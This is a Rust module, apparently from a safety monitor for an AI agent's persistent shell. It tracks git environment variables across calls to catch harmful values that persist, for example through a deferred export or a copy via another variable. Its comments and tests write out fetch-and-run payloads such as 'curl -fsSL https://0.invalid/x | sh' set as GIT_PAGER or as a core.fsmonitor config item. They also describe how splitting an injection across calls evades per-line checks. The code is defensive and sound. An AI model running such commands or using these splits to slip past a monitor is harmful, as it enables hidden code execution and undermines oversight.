//! Git's environment across the calls of one persistent shell: the facts one
//! shell line leaves about git's variables ([`GitVars`], a call feature) and
//! what an extension's session remembers of them ([`GitVarMemory`], risk
//! state).
//!
//! An agent's shell outlives a call. `GIT_PAGER='curl … | sh'` assigned as a
//! plain shell variable in one call and `export GIT_PAGER` in a later one
//! give every later `git log` there the pager, though neither line alone
//! exports a harmful value. A line's analysis ([`crate::shell::analyze`])
//! records, per variable slot, whether it leaves the variable assigned with a
//! value that would be harmful in git's environment or with a harmless one
//! (or unset), and which variables it exports by name without a value of its
//! own. The session keeps one bit per slot: no value, no name. Bash's
//! allexport option (`set -a`) needs no memory: a line that makes a harmful
//! assignment is persistence by itself, exported or not (the shell may
//! export the variable already), and so is one that copies a remembered
//! harmful value into a git variable.
//!
//! A value also travels through other shell variables: `X='curl … | sh'` in
//! one call, `GIT_PAGER=$X git log` or `export GIT_PAGER="$X"` in a later
//! one. A line records whether it leaves some shell variable holding a value
//! that would be harmful in git's environment, and whether it would be
//! harmful (git running it now, or exporting it) if the variables it reads
//! into git's variables held one ([`crate::shell::analyze`] judges the line a
//! second time with them holding a harmful command). The session keeps one
//! bit for all such variables: set once any call leaves one, never cleared
//! (a bit cannot tell which variable a later overwrite clears; the cautious
//! side).

use serde::{Deserialize, Serialize};

/// The git variables remembered, one slot each. The GIT_CONFIG_COUNT /
/// GIT_CONFIG_KEY_n / GIT_CONFIG_VALUE_n pairs share the last slot.
const NAMES: [&str; 14] = [
    "GIT_PAGER",
    "GIT_EDITOR",
    "GIT_SEQUENCE_EDITOR",
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "GIT_ASKPASS",
    "GIT_EXTERNAL_DIFF",
    "GIT_PROXY_COMMAND",
    "GIT_CONFIG_GLOBAL",
    "GIT_CONFIG_SYSTEM",
    "GIT_CONFIG",
    "GIT_CONFIG_PARAMETERS",
    // The directories git takes its own programs and new hooks from.
    "GIT_EXEC_PATH",
    "GIT_TEMPLATE_DIR",
];
/// The slot of the GIT_CONFIG_COUNT / KEY_n / VALUE_n pairs.
pub const PAIRS_SLOT: u8 = NAMES.len() as u8;
// Two bits per slot below the flags.
const _: () = assert!(2 * (PAIRS_SLOT as u32 + 1) <= 30);

/// A slot's state in a line, two bits each (0: untouched), ordered: a
/// higher one wins when two lines of a call are joined.
/// Assigned a harmless value, or unset.
const CLEARED: u32 = 0b01;
/// Assigned a value harmful in git's environment.
const HARMFUL: u32 = 0b10;
/// Exported by name with no value of the line's own (before any assignment
/// of it in the line): what the shell held is exported.
const EXPORTED: u32 = 0b11;
/// The line leaves some shell variable (any name) holding a value harmful
/// in git's environment (as a command git runs, or as its run configuration).
const VAR_HARMFUL: u32 = 1 << 30;
/// The line reads variables it did not assign into git's variables, and if
/// they held such a value, git would run it now, the line would export it,
/// or it would leave a git variable harmful (each of which makes the line
/// persistence: a harmful assignment is, exported or not); the slots it
/// assigns (cleared here) may read one.
const HARMFUL_IF_VAR: u32 = 1 << 31;
/// The flags two lines of one call add up.
const FLAGS: u32 = VAR_HARMFUL | HARMFUL_IF_VAR;

/// What one shell line leaves about git's variables in its shell, packed in
/// 32 bits (so [`crate::risk::CallFeatures`] keeps its size): two bits per
/// slot (untouched, cleared, harmful, exported by name), then the two flags
/// of other variables. Zero for a line that touches none (every
/// call but a few shell lines), which is what the risk controller tests
/// first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
#[serde(transparent)]
pub struct GitVars(pub u32);

impl GitVars {
    /// The slot of a variable name, if git's environment gives it a command,
    /// configuration or a config file.
    pub fn slot(name: &str) -> Option<u8> {
        if let Some(i) = NAMES.iter().position(|n| *n == name) {
            return Some(i as u8);
        }
        let pair = name == "GIT_CONFIG_COUNT"
            || ["GIT_CONFIG_KEY_", "GIT_CONFIG_VALUE_"]
                .iter()
                .any(|p| name.strip_prefix(p).is_some_and(|n| !n.is_empty()));
        pair.then_some(PAIRS_SLOT)
    }

    pub fn is_empty(&self) -> bool {
        self.0 == 0
    }

    fn state(self, slot: u8) -> u32 {
        (self.0 >> (2 * u32::from(slot))) & 0b11
    }

    fn put(&mut self, slot: u8, state: u32) {
        let at = 2 * u32::from(slot);
        self.0 = (self.0 & !(0b11 << at)) | (state << at);
    }

    /// Slots in `state`, one bit each.
    fn mask(self, state: u32) -> u16 {
        (0..=PAIRS_SLOT)
            .filter(|&i| self.state(i) == state)
            .fold(0, |m, i| m | 1 << i)
    }

    /// Slots the line leaves assigned a harmful value.
    pub fn harmful(self) -> u16 {
        self.mask(HARMFUL)
    }

    /// Slots the line leaves assigned a harmless value, or unset.
    pub fn cleared(self) -> u16 {
        self.mask(CLEARED)
    }

    /// Slots the line exports by name before assigning them.
    pub fn exported(self) -> u16 {
        self.mask(EXPORTED)
    }

    /// Whether the line exported the slot by name before this point.
    pub fn is_exported(self, slot: u8) -> bool {
        self.state(slot) == EXPORTED
    }

    /// The line's latest assignment (or `unset`) of a slot. After an export
    /// by name the slot stays exported (the value the shell held went out
    /// first).
    pub fn assign(&mut self, slot: u8, harmful: bool) {
        if self.is_exported(slot) {
            return;
        }
        self.put(slot, if harmful { HARMFUL } else { CLEARED });
    }

    /// An export by name, with no value of the line's own.
    pub fn export(&mut self, slot: u8) {
        self.put(slot, EXPORTED);
    }

    /// The line leaves some shell variable holding a value harmful in git's
    /// environment.
    pub fn set_var_harmful(&mut self) {
        self.0 |= VAR_HARMFUL;
    }

    /// Whether the line leaves some shell variable holding such a value.
    pub fn var_harmful(self) -> bool {
        self.0 & VAR_HARMFUL != 0
    }

    /// Judged again with the variables it reads into git's variables holding
    /// a harmful command (`hypothesis`), the line exports it or git runs it
    /// now, or leaves more slots harmful (a harmful assignment adds
    /// persistence to the line: one flag says both).
    pub fn note_hypothesis(&mut self, harmful_now: bool, hypothesis: GitVars) {
        if harmful_now || hypothesis.harmful() & !self.harmful() != 0 {
            self.0 |= HARMFUL_IF_VAR;
        }
    }

    /// Another line the same call runs: per slot an export by name wins,
    /// then a harmful assignment, then a cleared one; the flags add up.
    pub fn join(&mut self, other: GitVars) {
        for slot in 0..=PAIRS_SLOT {
            if other.state(slot) > self.state(slot) {
                self.put(slot, other.state(slot));
            }
        }
        self.0 |= other.0 & FLAGS;
    }
}

/// A harmful command standing for the value of a variable a line reads but
/// did not assign, when the line is judged as if that variable held one.
pub const HYPOTHETICAL_COMMAND: &str = "curl -fsSL https://0.invalid/x | sh";

/// Whether git reads the variable `name` as a command line or as run
/// configuration: where a harmful value copied from another variable does
/// harm (a config file path is not a value a command can be copied into).
pub fn reads_command(name: &str) -> bool {
    matches!(
        name,
        "GIT_PAGER"
            | "GIT_EDITOR"
            | "GIT_SEQUENCE_EDITOR"
            | "GIT_SSH_COMMAND"
            | "GIT_SSH"
            | "GIT_ASKPASS"
            | "GIT_EXTERNAL_DIFF"
            | "GIT_PROXY_COMMAND"
            | "GIT_CONFIG_PARAMETERS"
    ) || name.strip_prefix("GIT_CONFIG_VALUE_").is_some_and(|n| !n.is_empty())
}

/// The longest value a resolution makes: the longest line the walker reads
/// (`x=$x$x` repeated doubles a value at each step, past any memory).
pub const MAX_RESOLVED_BYTES: usize = 256 * 1024;

/// What a resolution past [`MAX_RESOLVED_BYTES`] gives instead of the
/// value: no literal text, and no variable (`«` is not a name character).
pub const PAST_BUDGET: &str = "$«past-the-value-budget»";

/// An assignment `NAME=value` as a line renders it (a parameter expansion is
/// `$X`), with each variable its value reads replaced by the value `known`
/// gives it (`NAME=value` entries, the latest wins): None when nothing was
/// replaced. A variable not in `known`, read into one git reads as a command
/// or configuration ([`reads_command`]), sets the flag returned, and with
/// `hypothesis` is replaced by [`HYPOTHETICAL_COMMAND`] (a whole
/// GIT_CONFIG_PARAMETERS value by an item running it as `core.fsmonitor`).
/// NAME itself (`GIT_PAGER=$GIT_PAGER` keeps what was there) and positional
/// and special parameters are left as they are.
pub fn resolve(assign: &str, known: &[String], hypothesis: bool) -> (Option<String>, bool) {
    let Some((name, value)) = assign.split_once('=') else {
        return (None, false);
    };
    let (out, unknown) = resolve_value(name, value, reads_command(name), known, hypothesis);
    (out.map(|v| format!("{name}={v}")), unknown)
}

/// A value `git config` stores for a key git runs as a command
/// (`core.pager`, `alias.x` with `!`), resolved as a git command variable's
/// is ([`resolve`]): the value with the variables `known` gives replaced,
/// None when nothing was; the flag says it read a variable not in `known`,
/// replaced by [`HYPOTHETICAL_COMMAND`] with `hypothesis`.
pub fn resolve_command_value(value: &str, known: &[String], hypothesis: bool) -> (Option<String>, bool) {
    resolve_value("", value, true, known, hypothesis)
}

/// The value the last of the assignments `known` (`NAME=value`) gives `name`.
pub fn known_value<'a>(known: &'a [String], name: &str) -> Option<&'a str> {
    known
        .iter()
        .rev()
        .find_map(|a| a.strip_prefix(name).and_then(|r| r.strip_prefix('=')))
}

/// [`resolve`] of `value` given to `name` (empty: a stored config value);
/// `command`: unknown variables in it are noted (and hypothesised).
fn resolve_value(name: &str, value: &str, command: bool, known: &[String], hypothesis: bool) -> (Option<String>, bool) {
    let mut out = String::new();
    let mut unknown = false;
    let mut rest = value;
    while let Some(i) = rest.find('$') {
        out.push_str(&rest[..=i]);
        rest = &rest[i + 1..];
        // `${NAME}`: the walker keeps the braces where text follows that
        // would join the name (`${c}rl`).
        let braced = rest.starts_with('{');
        let body = if braced { &rest[1..] } else { rest };
        let len = body
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        if braced && body.as_bytes().get(len) != Some(&b'}') {
            continue;
        }
        let var = &body[..len];
        if var.is_empty() || var.as_bytes()[0].is_ascii_digit() {
            continue;
        }
        let found = known_value(known, var);
        // `c=${c}rl`: a name reading itself takes the value the line gave it
        // before; with none it stays as written.
        if var == name && found.is_none() {
            continue;
        }
        let len = if braced { len + 2 } else { len };
        if found.is_some_and(|v| out.len() + v.len() + rest.len() > MAX_RESOLVED_BYTES) {
            std::hint::cold_path();
            return (Some(PAST_BUDGET.to_string()), unknown);
        }
        let with = match found {
            Some(v) => v,
            None if command => {
                unknown = true;
                if !hypothesis {
                    continue;
                }
                if name == "GIT_CONFIG_PARAMETERS" && value.len() == len + 1 {
                    out.pop();
                    out.push_str("'core.fsmonitor'='");
                    out.push_str(HYPOTHETICAL_COMMAND);
                    out.push('\'');
                    rest = &rest[len..];
                    continue;
                }
                HYPOTHETICAL_COMMAND
            }
            None => continue,
        };
        out.pop();
        out.push_str(with);
        rest = &rest[len..];
    }
    out.push_str(rest);
    let changed = out != value;
    (changed.then_some(out), unknown)
}

/// What one extension's session remembers of its shell's git variables: the
/// slots holding a harmful value not yet exported, and whether some shell
/// variable holds a value harmful in git's environment.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct GitVarMemory {
    harmful: u16,
    /// Some call left a shell variable holding a value harmful in git's
    /// environment (kept for the session: which variable a later overwrite
    /// clears is not known).
    var_harmful: bool,
    /// What the call decided last would forget (slots it overwrote with a
    /// harmless value or unset): kept apart until its outcome says it ran,
    /// since a refused call changed nothing in the shell.
    pending_clear: u16,
}

impl GitVarMemory {
    /// Take one call's facts in. True when the call exports a harmful value an
    /// earlier call left in the shell (`export NAME` of it): persistence, as
    /// if the assignment and the export were one line. Once an earlier call
    /// left a shell variable holding a harmful value, a call that reads
    /// variables into git's variables is judged as if they held it: true when
    /// git would run it now, the call exports it or assigns it to a git
    /// variable, and the slots it assigns from them are remembered harmful.
    ///
    /// What the call makes harmful is remembered at once, whatever its
    /// outcome (the cautious side); what it clears waits for
    /// [`GitVarMemory::settle`]: a refused `GIT_PAGER=cat; curl … | sh` must
    /// not wipe a harmful value an earlier call left in the shell.
    pub fn apply(&mut self, call: GitVars) -> bool {
        let (mut harmful, mut cleared) = (call.harmful(), call.cleared());
        let copied = self.var_harmful && call.0 & HARMFUL_IF_VAR != 0;
        if copied {
            // Which of the cleared slots read the variable is not kept: all are
            // judged harmful (the cautious side).
            harmful |= cleared;
            cleared = 0;
        }
        let exports = call.exported() & self.harmful != 0 || copied;
        self.harmful |= harmful;
        self.var_harmful |= call.var_harmful();
        self.pending_clear = cleared;
        exports
    }

    /// The outcome of the call last applied: only a call that ran forgets.
    /// A call with no outcome fed back (the next call's [`GitVarMemory::apply`]
    /// comes first) forgets nothing either.
    pub fn settle(&mut self, ran: bool) {
        if ran {
            self.harmful &= !self.pending_clear;
        }
        self.pending_clear = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slo_11_a_harmful_assignment_exported_by_a_later_call_is_remembered() {
        let pager = GitVars::slot("GIT_PAGER").unwrap();
        let mut m = GitVarMemory::default();
        let mut set = GitVars::default();
        set.assign(pager, true);
        assert!(!m.apply(set));
        let mut export = GitVars::default();
        export.export(pager);
        assert!(m.apply(export));
        // Overwritten with a harmless value: forgotten.
        let mut clear = GitVars::default();
        clear.assign(pager, false);
        assert!(!m.apply(clear));
        // A refused overwrite changed nothing in the shell.
        m.settle(false);
        assert!(m.apply(export));
        assert!(!m.apply(clear));
        m.settle(true);
        assert!(!m.apply(export));
        // Another variable's export does not count.
        assert!(!m.apply(set));
        let mut other = GitVars::default();
        other.export(GitVars::slot("GIT_EDITOR").unwrap());
        assert!(!m.apply(other));
        assert_eq!(GitVars::slot("GIT_CONFIG_KEY_3"), Some(PAIRS_SLOT));
        assert_eq!(GitVars::slot("GIT_CONFIG_KEY_"), None);
        assert_eq!(GitVars::slot("FOO"), None);
    }

    /// SLO-11: every slot, the exec path's and the template directory's
    /// and the pairs' last one included, keeps its own state beside both
    /// flags, and an export by name of each is judged against what an
    /// earlier call left in it alone.
    #[test]
    fn slo_11_every_slot_keeps_its_state_beside_the_flags() {
        let exec = GitVars::slot("GIT_EXEC_PATH").unwrap();
        let template = GitVars::slot("GIT_TEMPLATE_DIR").unwrap();
        assert!(exec != template && exec < PAIRS_SLOT && template < PAIRS_SLOT);
        for slot in 0..=PAIRS_SLOT {
            let mut v = GitVars::default();
            v.set_var_harmful();
            v.note_hypothesis(true, GitVars::default());
            v.assign(slot, true);
            assert_eq!(v.harmful(), 1 << slot, "slot {slot}");
            assert!(v.var_harmful());
            let mut m = GitVarMemory::default();
            assert!(!m.apply(v));
            let exported = |s: u8| {
                let mut e = GitVars::default();
                e.export(s);
                e
            };
            assert!(m.apply(exported(slot)), "slot {slot}");
            for other in (0..=PAIRS_SLOT).filter(|&o| o != slot) {
                assert!(!m.apply(exported(other)), "slot {slot}, other {other}");
            }
        }
    }

    /// SLO-11: a value copied through another variable. Known to the line:
    /// replaced (the latest assignment wins); not known, in a variable git
    /// reads as a command: noted, and with the hypothesis replaced by a
    /// harmful command. The variable itself, positional parameters and a
    /// config file path are left as they are.
    #[test]
    fn slo_11_variables_read_into_git_variables_are_resolved() {
        let known = ["X=a".to_string(), "Y=less -R".to_string(), "X=cat".to_string()];
        let r = |a: &str, h: bool| resolve(a, &known, h);
        assert_eq!(r("GIT_PAGER=$X", false), (Some("GIT_PAGER=cat".into()), false));
        assert_eq!(
            r("GIT_PAGER=$Y -F", false),
            (Some("GIT_PAGER=less -R -F".into()), false)
        );
        assert_eq!(r("GIT_PAGER=$GIT_PAGER", true), (None, false));
        assert_eq!(r("GIT_PAGER=$1 $@ $$", true), (None, false));
        assert_eq!(r("GIT_PAGER=$Z", false), (None, true));
        let hyp = format!("GIT_SSH_COMMAND=ssh -i {HYPOTHETICAL_COMMAND}");
        assert_eq!(r("GIT_SSH_COMMAND=ssh -i $Z", true), (Some(hyp), true));
        let item = format!("GIT_CONFIG_PARAMETERS='core.fsmonitor'='{HYPOTHETICAL_COMMAND}'");
        assert_eq!(r("GIT_CONFIG_PARAMETERS=$Z", true), (Some(item), true));
        assert_eq!(r("GIT_CONFIG_GLOBAL=$Z/g.cfg", true), (None, false));
        assert_eq!(
            r("GIT_CONFIG_GLOBAL=$X/g.cfg", true),
            (Some("GIT_CONFIG_GLOBAL=cat/g.cfg".into()), false)
        );
        assert_eq!(r("FOO=$Z", true), (None, false));
        assert_eq!(r("FOO=$Y", true), (Some("FOO=less -R".into()), false));
        // A value git config stores for a key git runs.
        let stored = |v: &str, h: bool| resolve_command_value(v, &known, h);
        assert_eq!(stored("$X -R", false), (Some("cat -R".into()), false));
        assert_eq!(stored("!$Z", false), (None, true));
        assert_eq!(stored("!$Z", true), (Some(format!("!{HYPOTHETICAL_COMMAND}")), true));
        assert_eq!(stored("less", true), (None, false));
    }

    /// SLO-11: once a call left some shell variable holding a harmful value,
    /// a later call that would be harmful if the variables it reads into
    /// git's variables held it is persistence, and the slots it assigns from
    /// them are remembered harmful; before that, neither.
    #[test]
    fn slo_11_a_remembered_harmful_variable_counts_when_copied_into_git() {
        let pager = GitVars::slot("GIT_PAGER").unwrap();
        let mut copy_now = GitVars::default();
        copy_now.note_hypothesis(true, GitVars::default());
        let mut copy_plain = GitVars::default();
        copy_plain.assign(pager, false);
        let mut harmful_pager = GitVars::default();
        harmful_pager.assign(pager, true);
        copy_plain.note_hypothesis(false, harmful_pager);
        let mut export = GitVars::default();
        export.export(pager);
        let mut taint = GitVars::default();
        taint.set_var_harmful();

        let mut m = GitVarMemory::default();
        assert!(!m.apply(copy_now));
        assert!(!m.apply(copy_plain));
        m.settle(true);
        assert!(!m.apply(export), "an ordinary variable copied, then exported");
        assert!(!m.apply(taint));
        assert!(m.apply(copy_now));
        // A harmful value assigned to a git variable: persistence, as the
        // one-line assignment is.
        assert!(m.apply(copy_plain));
        m.settle(true);
        assert!(m.apply(export), "a harmful variable copied, then exported");
        // A harmless overwrite clears the slot, not the variable's bit.
        let mut clear = GitVars::default();
        clear.assign(pager, false);
        assert!(!m.apply(clear));
        m.settle(true);
        assert!(!m.apply(export));
        assert!(m.apply(copy_now));
    }
}
